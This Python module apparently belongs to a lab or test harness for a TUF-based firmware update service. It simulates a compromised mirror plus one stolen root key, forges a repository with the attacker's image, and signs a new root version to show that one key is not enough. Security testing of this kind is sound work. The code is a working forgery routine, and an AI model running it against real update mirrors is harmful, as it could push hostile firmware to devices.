"""An update server in an attacker's hands, with one of the publisher's three root keys.

    python -m lab.attack service/image --publisher publisher --stolen image-1 --image evil.img

The mirror gets a whole image repository of the attacker's: a new root that names the attacker's keys, signed by those
and by the stolen one, and a release under it. Were one root key enough, a device would follow.
"""

import argparse
import shutil
import sys
import tempfile
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric import ec
from securesystemslib.signer import CryptoSigner  # type: ignore[attr-defined]  # no __all__ there

from ota import repository
from ota.firmware import measure, parse_image
from ota.publishing import add_image
from ota.signing import Roles, metadata_bytes, online_role, root_metadata, tuf_key
from provisioning.cli.publisher import ROOT_KEY, Publisher, opened_keys

LIFETIME = timedelta(days=30)
RELEASE_PCRS = (8, 9)


def main(arguments: Sequence[str] | None = None) -> int:
    """Replace what the mirror serves."""
    parser = argparse.ArgumentParser(prog="python -m lab.attack", description="Take over an image mirror.")
    parser.add_argument("mirror", type=Path, help="the folder that the service serves images from")
    parser.add_argument("--publisher", type=Path, required=True, help="whose key was stolen")
    parser.add_argument("--stolen", required=True, metavar="TOKEN", help="the token of the one stolen root key")
    parser.add_argument("--image", type=Path, required=True, help="what devices are to install")
    chosen = parser.parse_args(arguments)
    uri = f"pkcs11:token={chosen.stolen};object={ROOT_KEY}"
    with opened_keys(Publisher(chosen.publisher.absolute()), (uri,)) as (stolen,):
        forged = take_over(chosen.mirror, stolen, chosen.image.read_bytes(), datetime.now(UTC))
    print(f"{chosen.mirror}: serves {forged}, under a root signed by {chosen.stolen} and the attacker's own key")
    return 0


def take_over(mirror: Path, stolen: ec.EllipticCurvePrivateKey, image: bytes, now: datetime) -> str:
    """Put the attacker's repository in the place of the publisher's; the name of its release is returned."""
    own = ec.generate_private_key(ec.SECP256R1())
    role = online_role(own.public_key(), LIFETIME)
    roles = Roles(role, role, role, role)
    header = parse_image(image)
    boot = measure(header)
    with tempfile.TemporaryDirectory() as folder:
        forged = Path(folder) / "image"
        repository.create(forged, roles, (own,), now)
        values = {pcr: boot.pcrs[pcr] for pcr in RELEASE_PCRS}
        name = add_image(forged, image, header.version, header.hardware, header.release_counter, values)
        repository.publish(forged, (own,), now)
        (forged / "metadata" / "1.root.json").unlink()  # the device has the true one
        shutil.copytree(forged, mirror, dirs_exist_ok=True)
    known = max(int(path.name.split(".")[0]) for path in (mirror / "metadata").glob("*.root.json"))
    root = root_metadata(roles, known + 1, now)
    for key in (own, stolen):
        root.sign(CryptoSigner(key, tuf_key(key.public_key())), append=True)
    (mirror / "metadata" / f"{known + 1}.root.json").write_bytes(metadata_bytes(root))
    return name


if __name__ == "__main__":
    sys.exit(main())
